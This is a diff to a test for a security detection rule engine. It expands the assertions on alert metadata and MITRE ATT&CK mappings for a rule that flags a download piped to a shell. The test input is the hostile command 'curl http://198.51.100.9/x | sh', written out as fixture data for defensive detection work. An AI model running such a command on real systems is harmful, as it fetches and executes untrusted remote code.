@@ -174,9 +174,24 @@ class TestEngine:
         doc = _auditd_doc("curl http://198.51.100.9/x | sh", secstream={"iocs": {"url": ["http://198.51.100.9/x"]}})
         (hit,) = RuleEngine([DEFAULT["SS-LNX-001"]]).match(doc)
         DETECTIONS.validate(hit)
-        assert hit["rule"] == {"id": "SS-LNX-001", "name": "Download piped to a shell", "version": "1"}
-        assert hit["event"]["severity"] == 73
-        assert hit["threat"]["technique"]["id"] == ["T1105", "T1059.004"]
+        assert hit["rule"] == {
+            "id": "SS-LNX-001",
+            "name": "Download piped to a shell",
+            "version": "1",
+            "description": DEFAULT["SS-LNX-001"].description,
+            "ruleset": "secstream",
+        }
+        assert hit["event"]["severity"] == 73 and hit["event"]["risk_score"] == 73.0
+        assert hit["event"]["category"] == ["intrusion_detection"] and hit["event"]["dataset"] == "secstream.alert"
+        technique = hit["threat"]["technique"]
+        assert technique["id"] == ["T1105", "T1059"]
+        assert technique["name"] == ["Ingress Tool Transfer", "Command and Scripting Interpreter"]
+        assert technique["subtechnique"] == {
+            "id": ["T1059.004"],
+            "name": ["Unix Shell"],
+            "reference": ["https://attack.mitre.org/techniques/T1059/004/"],
+        }
+        assert hit["threat"]["tactic"]["name"] == ["Command and Control", "Execution"]
         assert hit["secstream"]["evidence"]["event_ids"] == ["a" * 32]
         assert hit["process"]["parent"]["name"] == "bash"
         assert hit["secstream"]["iocs"] == {"url": ["http://198.51.100.9/x"]}
